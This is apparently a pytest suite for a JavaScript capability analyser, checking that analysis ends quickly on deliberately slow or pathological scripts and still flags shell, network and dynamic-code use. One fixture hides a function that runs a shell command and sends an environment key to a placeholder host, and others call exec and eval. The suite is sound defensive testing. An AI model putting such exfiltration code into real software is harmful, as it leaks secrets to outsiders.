"""Scripts of every shape, made to be slow: each ends long before a worker's clock would end it, whatever it says.

What a file is found to do must be a function of its bytes. So the work is counted, and the clock only has to catch
what nobody thought of: a file near it would be read on one machine and unread on the next.
"""

from __future__ import annotations

import random
import time
from collections.abc import Callable

import pytest

from plugseal.lang.ecmascript import reader
from plugseal.lang.ecmascript.analysis import TOO_MUCH
from plugseal.lang.ecmascript.parsing.allowance import Allowance
from plugseal.lang.ecmascript.parsing.parse import MAX_LOST_CALLS
from plugseal.lang.ecmascript.reader import TOO_MUCH_WORK, read_script
from plugseal.lang.facts import Context, FileFacts, Interest
from plugseal.limits import MAX_NESTED_CHARACTERS

SIZE = 200_000
HANG_SECONDS = 40
"""Twenty times what the slowest takes."""


def _many(unit: str, before: str = "", after: str = "") -> str:
    return before + unit * (SIZE // len(unit)) + after


def _each(unit: Callable[[int], str], before: str = "", after: str = "") -> str:
    return before + "".join(unit(at) for at in range(SIZE // len(unit(1000)))) + after


def _around(opening: str, closing: str, inner: str = "", before: str = "", after: str = "") -> str:
    count = SIZE // len(opening + closing)
    return before + opening * count + inner + closing * count + after


SHAPES = {
    "a chain of properties": _many(".a", "process.env"),
    "a chain of calls": _many("()", "require('fs').x"),
    "a chain of methods": _many(".pipe()", "require('fs').createReadStream('x')"),
    "a chain of callbacks": _many(".then(x=>x)", "fetch('x')"),
    "a chain of callbacks over the environment": _many(".map(x=>x)", "process.env"),
    "a chain of items": _many("['a']", "require('child_process')"),
    "a sum of names": _many("+a+b", "var a='x',b='y';eval(a", ")"),
    "choices": _many("||require('child_process')", "x=b", ";x.exec('a');x()"),
    "objects of objects": _around("new ", "", "b"),
    "functions in functions": _around("()=>{g.a;h();", "}"),
    "functions in functions with parameters": _around("(p)=>{p();q(p);", "}"),
    "promises in promises": _around("new Promise(r=>", ")", "r()"),
    "functions of one name": _many("function f(a){return a}f(f);"),
    "functions of one name that lead on": _each(lambda at: f"const f{at}=x=>f(x);f=f{at};", "let f;"),
    "functions that call each other": _each(
        lambda at: f"function f{at % 997}(a,b,c){{a.x(b);f{at * 7 % 997}(b,a,c);f{at * 13 % 997}(c,a,b);return b||c}}",
        after="f0(process,require,process.env);",
    ),
    "names in circles": _each(
        lambda at: f"v{at % 3000}=v{(at * 17 + 3) % 3000}||v{(at * 5 + 1) % 3000};", "v0=require('child_process');"
    ),
    "names in a row": _each(lambda at: f"var v{at + 1}=v{at};v{at}.exec('x');", "var v0=require('child_process');"),
    "texts that grow": _many("s=s+'x';eval(s);", "var s='';"),
    "texts that are added to": _many("s+='ab';eval(s);", "var s='';"),
    "spread into spread": _each(
        lambda at: f"var s{at + 1}={{...s{at},...s{at},a:s{at}}};fetch(s{at});",
        "var s0=process.env;fetch(process.env);",
    ),
    "lines for a shell": _each(lambda at: f"exec('ls {at}');", "const {exec}=require('child_process');"),
    "modules of a bundle": _each(
        lambda at: f"{at}:(e,t,n)=>{{var r=n({at * 7 % 1000});t.x=r.y;e.exports=n({at + 1});r.z(t)}},",
        "(()=>{var m={",
        "};function n(e){var t={exports:{}};m[e](t,t.exports,n);return t.exports}n(0)})()",
    ),
    "comments in a row": _many("/*x*/", "x "),
    "comments in a row, for a script host": _many("/*@cc_on x @*/"),
    "code of a script host that nobody understands": _many("/*@cc_on x @*/ ) { ( \n"),
    "brackets that stay open": _many("([{"),
    "tags that stay open": _many("<a "),
    "what is no script": _many("a b c ) ] } ;"),
}


def _read(source: str, language: str = "javascript") -> FileFacts:
    return read_script(source.encode(), Context("x.js", Interest()), language=language)


@pytest.mark.parametrize("source", SHAPES.values(), ids=SHAPES)
def test_a_script_of_any_shape_ends(source: str) -> None:
    start = time.process_time()
    facts = _read(source)
    assert facts.status == "read" or facts.reason
    assert time.process_time() - start < HANG_SECONDS
    assert sum(len(one.text) for one in facts.nested) <= MAX_NESTED_CHARACTERS
    assert len(repr(facts.events)) < 100 * SIZE


def test_what_a_script_is_not_understood_in_is_not_tried_again_and_again() -> None:
    signs = "abc()[]{};,.=+\"'`/\\ \n<>?:!1"
    facts = _read("".join(random.Random(1).choices(signs, k=3 * SIZE)))
    assert (facts.status, facts.reason) == ("unread", TOO_MUCH_WORK)


def test_what_a_script_host_reads_besides_takes_what_is_left_of_one_allowance(monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[Allowance] = []

    def begin(size: int) -> Allowance:
        made.append(Allowance(size))
        return made[-1]

    monkeypatch.setattr(reader, "Allowance", begin)
    facts = _read(_many("/*@cc_on x=a+b @*/ x=x+eval(y);\n", after="eval(x);" * 4))
    assert "code.dynamic" in {fact.capability for fact in facts.facts}
    assert [one.fuel < Allowance(SIZE).fuel and one.calls < Allowance(SIZE).calls for one in made] == [True]
    spent = Allowance(SIZE)
    spent.lose_calls(spent.calls)
    spent.take_fuel(5, is_spent=True)
    assert (spent.lost, spent.calls, spent.fuel) == (MAX_LOST_CALLS - Allowance(SIZE).calls, spent.lost, 0)


def _bundle(size: int, hidden: str) -> str:
    """Return functions that lead into each other, with one somewhere among them that does something."""
    unit = "function f%d(e,t,n){var r=this.a%d(e,t),i=n(r,f%d);this.b%d=i||r;return e.c(i,r)||f%d(r,i,n)}\n"
    count = size // len(unit)
    made = [unit % (at, at % 50, at * 31 % count, at % 50, at * 17 % count) for at in range(count)]
    made.insert(count * 9 // 10, hidden)
    return "var P=process;" + "".join(made) + "f0(P,require,f1);"


@pytest.mark.parametrize("size", [1_000_000, 4_000_000])
def test_a_bundle_that_is_too_large_shows_what_it_does_in_so_many_words(size: int) -> None:
    hidden = (
        "var $c=require('child_process');"
        "function z(a){(0,$c.execSync)('id');fetch('https://e.example/'+P.env.KEY);eval(a)}\n"
    )
    facts = _read(_bundle(size, hidden))
    assert (facts.status, facts.reason) == ("partial", TOO_MUCH)
    assert {"process.shell", "net.outbound", "code.dynamic"} <= {fact.capability for fact in facts.facts}


def test_functions_that_stand_too_deep_leave_a_script_partial() -> None:
    deep = _read("()=>{" * 300 + "eval(x)" + "}" * 300)
    assert (deep.status, deep.reason) == ("partial", TOO_MUCH)
    assert _read("()=>{" * 100 + "eval(x)" + "}" * 100).facts != ()
